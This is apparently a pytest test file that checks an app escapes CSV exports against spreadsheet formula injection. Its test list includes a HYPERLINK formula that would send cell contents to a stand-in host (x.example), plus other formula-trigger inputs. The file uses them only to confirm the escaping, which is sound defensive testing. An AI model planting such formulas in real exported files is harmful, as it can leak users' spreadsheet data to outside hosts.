"""Every CSV the app writes is escaped against formula injection, per OWASP (issue 12, item
11): one helper (app.csv_export) for the key-person export, the claims, reach and report."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.csv_export import TRIGGERS, csv_bytes, safe_cell, unescape_cell
from app.security.roles import Role
from app.sleutelpersonen.service import SleutelpersoonService
from app.sleutelpersonen.transfer import export_csv
from db.connection import Store
from tests.support.security import act_as
from tests.support.sleutelpersonen import persoon_form

TODAY = date(2026, 12, 1)
ATTACKS = ['=HYPERLINK("http://x.example/?"&A1,"klik")', "+31 6 1234", "-2+3", "@SUM(1)", "\tx"]


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_cell_is_written_as_text(attack: str) -> None:
    cell = _cells(csv_bytes([["naam"], [attack]]))[1][0]
    assert cell == "'" + attack
    assert unescape_cell(cell) == attack


@given(st.text(max_size=40))
def test_no_cell_ever_starts_like_a_formula_and_every_cell_comes_back(text: str) -> None:
    text = text.replace("\r", "").replace("\n", "").replace("\x00", "")
    cell = _cells(csv_bytes([[text]]))[0][0] if text else ""
    assert not cell.startswith(TRIGGERS)
    assert unescape_cell(safe_cell(text)) == text


def test_key_person_export_escapes_a_formula_from_older_data(store: Store) -> None:
    """New input refuses a leading = (validation); data stored before that is still escaped."""
    act_as(store, *Role)
    service = SleutelpersoonService(store)
    service.save(persoon_form(voornaam="Amal", achternaam="Haddad"), TODAY)
    old = replace(service.lijst()[0], training='=HYPERLINK("http://x.example","klik")')
    rows = _cells(export_csv([old]))
    col = rows[0].index("training")
    assert rows[1][col] == "'" + old.training
    assert unescape_cell(rows[1][col]) == old.training


def test_every_csv_writer_goes_through_the_one_helper() -> None:
    """No module writes CSV with the csv module itself (so none can forget the escaping)."""
    root = Path(__file__).resolve().parents[3]
    offenders = [
        str(path.relative_to(root))
        for folder in ("app", "ui")
        for path in (root / folder).rglob("*.py")
        if "csv.writer(" in path.read_text("utf-8") or "csv.DictWriter(" in path.read_text("utf-8")
    ]
    assert offenders == ["app/csv_export.py"]
